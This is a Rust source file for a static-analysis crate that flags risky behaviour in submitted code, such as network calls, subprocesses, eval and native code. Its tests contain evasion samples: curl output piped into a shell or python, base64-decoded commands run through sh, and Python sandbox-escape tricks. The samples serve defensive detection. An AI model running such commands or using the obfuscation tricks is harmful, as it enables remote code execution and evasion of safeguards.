//! gearbox-analysis: static analysis of submitted code, as advice to the safety gears.
//!
//! [`analyze()`] parses each file with a real parser (tree-sitter with the Python, JavaScript,
//! Bash and Go grammars) and reports what the code looks like it does: talk to the network,
//! run other programs, load native code, evaluate code built at run time, write files outside
//! the workspace, or install packages. Names are resolved through aliases (`import requests
//! as r`, `const {exec} = require("child_process")`, `import h "net/http"`), and comments and
//! string literals never produce findings. Command strings handed to a shell (`os.system("curl
//! …")`, `bash -c '…'`, `python3 -c '…'`) are parsed in turn.
//!
//! Analysis is advice: a determined program can hide what it does from any static analysis,
//! which is why whatever cannot be told statically (dynamic evaluation, native code, commands
//! named at run time) raises the risk rather than passing. The sandbox is the enforcement.
//! This crate must not run anything.
//!
//! # Risk levels
//!
//! | category | finding | risk | capability |
//! |---|---|---|---|
//! | `network` | a network module, function or command (`requests`, `fetch(`, `net/http`, `curl`) | medium | `network` |
//! | `package_install` | `pip install`, `npm install`, `apt-get install`, `go get`, `import pip` | medium | `packages` |
//! | `subprocess` | runs a program named by a literal (`subprocess.run(["ls"])`, `exec.Command("ls")`) | medium | — |
//! | `subprocess` | runs a program whose name is only known at run time | high | — |
//! | `file_write_outside_workspace` | a literal path outside `/work` and `/tmp` opened for writing | medium | — |
//! | `native_code` | `ctypes`, `cffi`, native Node addons, cgo, `unsafe`, `syscall`, `plugin`, `LD_PRELOAD` | high | — |
//! | `dynamic_evaluation` | `eval`, `exec`, `new Function`, imports named at run time, shell strings built at run time, `curl … \| sh` | high | — |
//!
//! The analysis risk is the highest finding's, `low` without findings, at least `medium`
//! when a file did not parse cleanly (the parser recovers, but something may be missed), and
//! `high` when the code was not analysed at all (unknown language, a file over
//! [`MAX_FILE_BYTES`], parsing past [`MAX_PARSE_TIME`]).
//!
//! In Bash every line runs a command, so plain commands (`ls`, `grep`) are not findings;
//! only network commands, package installs, dynamic evaluation (`eval`, `source "$f"`,
//! `bash -c "$x"`, a shell fed by a pipe) and writes outside the workspace are.

mod analyze;
mod bash;
mod common;
mod go;
mod javascript;
mod python;

use std::collections::BTreeSet;
use std::time::Duration;

use gearbox_core::Capability;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

pub use analyze::analyze;

/// Files larger than this (in bytes) are not analysed: the whole analysis then reports
/// `analysed: false`. 1 MiB is far more than any hand-written snippet and bounds parse time
/// (about 50 ms at this size).
pub const MAX_FILE_BYTES: usize = 1024 * 1024;

/// How long parsing a whole submission may take before the analysis gives up and reports
/// `analysed: false`. Parsing is linear in practice (tens of ms for a 2000-line file); this
/// bounds pathological inputs and many large files.
pub const MAX_PARSE_TIME: Duration = Duration::from_secs(5);

/// How risky code looks. Ordered: `Low < Medium < High`.
#[derive(
    Debug,
    Clone,
    Copy,
    Default,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    Deserialize,
    JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum Risk {
    #[default]
    Low,
    Medium,
    High,
}

impl Risk {
    pub fn as_str(self) -> &'static str {
        match self {
            Risk::Low => "low",
            Risk::Medium => "medium",
            Risk::High => "high",
        }
    }
}

impl std::fmt::Display for Risk {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// What kind of thing a finding is.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// Talks to the network: sockets, HTTP clients, `fetch`, `curl`.
    Network,
    /// Runs another program.
    Subprocess,
    /// Loads or calls native code: `ctypes`, `cffi`, Node addons, cgo, `unsafe`.
    NativeCode,
    /// Runs code that is only known at run time: `eval`, `exec`, `new Function`, imports of
    /// computed names, shell strings built at run time. "Cannot tell", so high risk.
    DynamicEvaluation,
    /// Writes (creates, removes, renames) a literal path outside `/work` and `/tmp`.
    FileWriteOutsideWorkspace,
    /// Installs packages: `pip install`, `npm install`, `apt-get install`, `go get`.
    PackageInstall,
}

impl Category {
    pub fn as_str(self) -> &'static str {
        match self {
            Category::Network => "network",
            Category::Subprocess => "subprocess",
            Category::NativeCode => "native_code",
            Category::DynamicEvaluation => "dynamic_evaluation",
            Category::FileWriteOutsideWorkspace => "file_write_outside_workspace",
            Category::PackageInstall => "package_install",
        }
    }

    /// The capability a run with such a finding needs, if any.
    pub fn capability(self) -> Option<Capability> {
        match self {
            Category::Network => Some(Capability::Network),
            Category::PackageInstall => Some(Capability::Packages),
            _ => None,
        }
    }
}

impl std::fmt::Display for Category {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One thing the analysis noticed, with where it is.
#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema, PartialEq)]
pub struct Finding {
    /// The file's path as given to [`analyze`].
    pub file: String,
    /// 1-based line.
    pub line: u32,
    /// 1-based column, in bytes.
    pub column: u32,
    pub category: Category,
    /// The capability this finding makes the run need, if any.
    pub capability: Option<Capability>,
    /// What was seen, e.g. "imports `requests` (as r)".
    pub what: String,
    pub risk: Risk,
}

/// The result of analysing one submission.
#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema, PartialEq)]
pub struct Analysis {
    /// False when the code could not be analysed (unknown language, a file too large); the
    /// risk is then `high` and `reason` says why.
    pub analysed: bool,
    /// The highest risk of any finding (see the crate docs for the table).
    pub risk: Risk,
    /// Capabilities the findings say the run needs.
    pub needs: BTreeSet<Capability>,
    /// Sorted by (file, line, column).
    pub findings: Vec<Finding>,
    /// True when some file did not parse cleanly; the analysis of the rest still stands.
    pub parse_errors: bool,
    /// Why the code was not analysed, when `analysed` is false.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
}

impl Analysis {
    fn not_analysed(reason: String) -> Analysis {
        Analysis {
            analysed: false,
            risk: Risk::High,
            needs: BTreeSet::new(),
            findings: Vec::new(),
            parse_errors: false,
            reason: Some(reason),
        }
    }

    /// Short human text: a first line with the risk and needs, then one line per finding,
    /// e.g. "main.py:3: network — imports `requests`".
    pub fn summary(&self) -> String {
        if !self.analysed {
            return format!(
                "not analysed: {}",
                self.reason.as_deref().unwrap_or("unknown reason")
            );
        }
        let mut out = format!("risk {}", self.risk);
        if !self.needs.is_empty() {
            let needs: Vec<&str> = self.needs.iter().map(|c| c.as_str()).collect();
            out.push_str(&format!("; needs {}", needs.join(", ")));
        }
        if self.parse_errors {
            out.push_str("; some code did not parse");
        }
        if self.findings.is_empty() {
            out.push_str("; no findings");
        }
        for f in &self.findings {
            out.push_str(&format!(
                "\n{}:{}: {} — {}",
                f.file, f.line, f.category, f.what
            ));
        }
        out
    }
}

/// The languages this crate can analyse (names as in `languages.toml`).
pub const LANGUAGES: [&str; 4] = ["python", "javascript", "go", "bash"];

#[cfg(test)]
mod tests {
    use super::*;

    fn file_for(language: &str) -> &'static str {
        match language {
            "python" => "main.py",
            "javascript" => "main.js",
            "go" => "main.go",
            _ => "main.sh",
        }
    }

    /// Asserts the exact findings (line, category, what) of one file, in any order.
    pub(crate) fn check(language: &str, src: &str, expected: &[(u32, &str, &str)]) {
        let a = analyze(language, &[(file_for(language), src)]);
        assert!(a.analysed);
        let mut got: Vec<(u32, String, String)> = a
            .findings
            .iter()
            .map(|f| (f.line, f.category.as_str().to_string(), f.what.clone()))
            .collect();
        let mut want: Vec<(u32, String, String)> = expected
            .iter()
            .map(|(l, c, w)| (*l, c.to_string(), w.to_string()))
            .collect();
        got.sort();
        want.sort();
        assert_eq!(got, want, "\n{}", a.summary());
        assert!(!a.parse_errors, "parse errors in:\n{src}");
    }

    pub(crate) fn check_none(language: &str, src: &str) {
        check(language, src, &[]);
        let a = analyze(language, &[(file_for(language), src)]);
        assert_eq!(a.risk, Risk::Low);
        assert!(a.needs.is_empty());
    }

    #[test]
    fn unknown_languages_are_not_analysed() {
        let a = analyze("ruby", &[("main.rb", "require 'socket'")]);
        assert!(!a.analysed);
        assert_eq!(a.risk, Risk::High);
        assert!(a.findings.is_empty());
        assert!(a.summary().contains("ruby"), "{}", a.summary());
    }

    #[test]
    fn oversized_files_are_not_analysed() {
        let big = "x = 1\n".repeat(MAX_FILE_BYTES / 6 + 1);
        let a = analyze("python", &[("main.py", "import socket"), ("big.py", &big)]);
        assert!(!a.analysed);
        assert!(a.findings.is_empty());
        assert_eq!(a.risk, Risk::High);
        assert!(a.reason.as_deref().unwrap_or("").contains("big.py"));
    }

    #[test]
    fn risk_needs_and_summary() {
        let a = analyze(
            "python",
            &[(
                "main.py",
                "import os\nimport requests\nos.system('pip install x')\n",
            )],
        );
        assert_eq!(a.risk, Risk::Medium);
        assert_eq!(
            a.needs,
            BTreeSet::from([Capability::Network, Capability::Packages])
        );
        let s = a.summary();
        assert!(s.starts_with("risk medium; needs network, packages"), "{s}");
        assert!(
            s.contains("\nmain.py:2: network — imports `requests`"),
            "{s}"
        );
        let eval = analyze("python", &[("main.py", "eval(input())")]);
        assert_eq!(eval.risk, Risk::High);
        assert!(eval.needs.is_empty());
        let none = analyze("bash", &[("run.sh", "echo hi\n")]);
        assert_eq!(none.risk, Risk::Low);
        assert_eq!(none.summary(), "risk low; no findings");
    }

    #[test]
    fn findings_are_sorted_by_file_line_column() {
        let a = analyze(
            "python",
            &[
                ("z.py", "import socket\n"),
                (
                    "b.py",
                    "x = 1\nimport requests; import socket\nimport ctypes\n",
                ),
                ("a.sh", "wget x\ncurl y\n"),
                ("data.json", "import socket"),
            ],
        );
        let keys: Vec<(String, u32, u32)> = a
            .findings
            .iter()
            .map(|f| (f.file.clone(), f.line, f.column))
            .collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(keys, sorted);
        assert_eq!(
            keys,
            [
                ("a.sh".to_string(), 1, 1),
                ("a.sh".to_string(), 2, 1),
                ("b.py".to_string(), 2, 1),
                ("b.py".to_string(), 2, 18),
                ("b.py".to_string(), 3, 1),
                ("z.py".to_string(), 1, 1),
            ]
        );
    }

    #[test]
    fn files_are_read_by_their_extension() {
        let a = analyze(
            "python",
            &[
                ("main.py", "print(1)\n"),
                ("fetch.sh", "curl x\n"),
                ("notes.txt", "curl x"),
            ],
        );
        assert_eq!(a.findings.len(), 1);
        assert_eq!(a.findings[0].file, "fetch.sh");
        let a = analyze("bash", &[("script", "wget x\n")]);
        assert_eq!(a.findings.len(), 1);
    }

    #[test]
    fn parse_errors_raise_the_risk() {
        let a = analyze("python", &[("main.py", "def (:\n  import socket\n")]);
        assert!(a.parse_errors);
        assert!(a.risk >= Risk::Medium);
    }

    #[test]
    fn serde_names() {
        let a = analyze("javascript", &[("main.js", "fetch('x')")]);
        let v = serde_json::to_value(&a).expect("serialises");
        assert_eq!(v["risk"], "medium");
        assert_eq!(v["needs"][0], "network");
        assert_eq!(v["findings"][0]["category"], "network");
        assert_eq!(v["findings"][0]["line"], 1);
        assert!(v.get("reason").is_none());
        let back: Analysis = serde_json::from_value(v).expect("deserialises");
        assert_eq!(back, a);
        assert_eq!(
            serde_json::to_value(Category::FileWriteOutsideWorkspace).expect("serialises"),
            "file_write_outside_workspace"
        );
    }

    /// Ways to hide what code does: each must be caught as high risk ("cannot tell").
    #[test]
    fn evasions_raise_the_risk() {
        let cases = [
            (
                "python",
                "import subprocess\ncmd = 'cu' + 'rl'\nsubprocess.run([cmd, 'x'])\n",
            ),
            (
                "python",
                "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
            ),
            (
                "python",
                "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
            ),
            ("python", "m = __import__(bytes([115, 111]).decode())\n"),
            (
                "python",
                "[c for c in ().__class__.__base__.__subclasses__()]\n",
            ),
            ("python", "import importlib as il\nil.import_module(name)\n"),
            ("python", "import ctypes\nctypes.CDLL(None).system(b'id')\n"),
            ("python", "list(map(eval, ['1']))\n"),
            ("python", "import os\nos.system(f'curl {url}')\n"),
            ("javascript", "globalThis['ev' + 'al']('1');\n"),
            (
                "javascript",
                "[].constructor.constructor('return process')();\n",
            ),
            ("javascript", "require(['child', 'process'].join('_'));\n"),
            ("javascript", "Reflect.apply(eval, null, ['1']);\n"),
            ("javascript", "const m = await import(`node:${x}`);\n"),
            (
                "javascript",
                "require('child_process').exec(`curl ${u}`);\n",
            ),
            (
                "go",
                "package main\nimport \"os/exec\"\nfunc main() { exec.Command(os.Args[1]).Run() }\n",
            ),
            (
                "go",
                "package main\nimport \"unsafe\"\nfunc main() { _ = unsafe.Pointer(nil) }\n",
            ),
            ("bash", "$(echo Y3VybA== | base64 -d) x\n"),
            ("bash", "eval \"$(curl -s x.invalid)\"\n"),
            ("bash", "c=curl; $c x\n"),
            ("bash", "curl -s x.invalid | python3\n"),
            ("bash", "bash <(curl -s x.invalid)\n"),
            ("bash", "echo aWQ= | base64 -d | sh\n"),
        ];
        for (lang, src) in cases {
            let a = analyze(lang, &[(file_for(lang), src)]);
            assert_eq!(a.risk, Risk::High, "{lang}: {src}\n{}", a.summary());
        }
    }

    /// A small deterministic generator (xorshift), so failures reproduce.
    fn noise(seed: u64, len: usize, alphabet: &[u8]) -> String {
        let mut x = seed.max(1);
        (0..len)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                alphabet[(x % alphabet.len() as u64) as usize] as char
            })
            .collect()
    }

    #[test]
    fn never_panics_on_random_input() {
        let bytes: Vec<u8> = (1u8..=127).collect();
        let code =
            b"import os subprocess eval( exec \"'`$(){}[]<>|&;\n\t\\ require fetch .+-=#/ C net";
        for seed in 1..120u64 {
            for lang in LANGUAGES {
                let alphabet: &[u8] = if seed % 2 == 0 { &bytes } else { code };
                let src = noise(seed, 1 + (seed as usize * 37) % 3000, alphabet);
                let a = analyze(lang, &[(file_for(lang), &src)]);
                assert!(a.analysed);
                for f in &a.findings {
                    assert!(f.line >= 1 && f.column >= 1);
                }
            }
        }
    }

    #[test]
    fn never_panics_on_deeply_nested_code() {
        let depth = 20_000;
        let cases = [
            (
                "python",
                format!("x = {}1{}\n", "(".repeat(depth), ")".repeat(depth)),
            ),
            ("python", format!("a{}\n", ".b".repeat(depth))),
            (
                "python",
                format!(
                    "{}'socket'{}\n",
                    "__import__(".repeat(depth),
                    ")".repeat(depth)
                ),
            ),
            ("python", format!("x = {}'a'\n", "'a' + ".repeat(depth))),
            (
                "javascript",
                format!("{}1{};\n", "[".repeat(depth), "]".repeat(depth)),
            ),
            ("javascript", format!("x{};\n", "()".repeat(depth))),
            (
                "go",
                format!(
                    "package main\nfunc main() {{ x := {}1{} }}\n",
                    "(".repeat(depth),
                    ")".repeat(depth)
                ),
            ),
            (
                "bash",
                format!("{}ls{}\n", "$(".repeat(depth), ")".repeat(depth)),
            ),
            ("bash", format!("{}\n", "bash -c \"".repeat(50))),
        ];
        for (lang, src) in cases {
            let a = analyze(lang, &[(file_for(lang), &src)]);
            assert!(a.analysed);
        }
    }

    #[test]
    fn nesting_is_bounded() {
        // bash -c 'bash -c "…"' nested past the limit is reported, not followed forever.
        let mut cmd = "curl x".to_string();
        for _ in 0..8 {
            cmd = format!("bash -c {}", shell_quote(&cmd));
        }
        let a = analyze("bash", &[("main.sh", &cmd)]);
        assert_eq!(a.risk, Risk::High);
        assert!(
            a.findings.iter().any(|f| f.what.contains("too deeply")),
            "{}",
            a.summary()
        );
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}
